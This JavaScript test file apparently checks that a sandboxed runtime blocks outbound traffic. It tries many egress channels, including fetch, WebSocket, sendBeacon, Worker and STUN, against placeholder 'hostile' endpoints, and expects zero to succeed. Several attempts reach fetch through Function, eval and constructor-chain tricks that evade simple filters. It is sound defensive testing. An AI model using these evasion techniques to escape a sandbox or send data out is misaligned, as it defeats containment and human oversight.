// Tries every way out, to this origin and to another one.
// ends: done|await
// prints: ways found: 0
let found = 0;
const here = '%HERE%/hostile';
const there = '%THERE%/hostile';
for (const to of [here, there]) {
  const ways = [
    () => fetch(`${to}?fetch`),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${to}?xhr`);
      request.send();
    },
    () => new WebSocket(`${to.replace('http', 'ws')}?socket`),
    () => new EventSource(`${to}?events`),
    () => new WebTransport(`${to.replace('http:', 'https:')}?transport`),
    () => importScripts(`${to}?scripts`),
    () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }),
    () => navigator.sendBeacon(`${to}?beacon`, 'x'),
    () => new Request(`${to}?request`),
    () => new Image(),
    () => new FontFace('x', `url(${to}?font)`).load(),
    () => caches.open('x'),
    () => new Worker(`${to}?worker`),
    () => Function('to', 'return fetch(to)')(`${to}?function`),
    () => (0, eval)(`fetch('${to}?eval')`),
    () => (async () => {}).constructor(`return fetch('${to}?async')`)(),
    () => (function* () {}).constructor(`fetch('${to}?generator')`)().next(),
    () => [].constructor.constructor(`return fetch('${to}?array')`)(),
  ];
  for (const way of ways) {
    try {
      await way();
      found++;
    } catch {
      // As it should be.
    }
  }
}
console.log(`ways found: ${found}`);
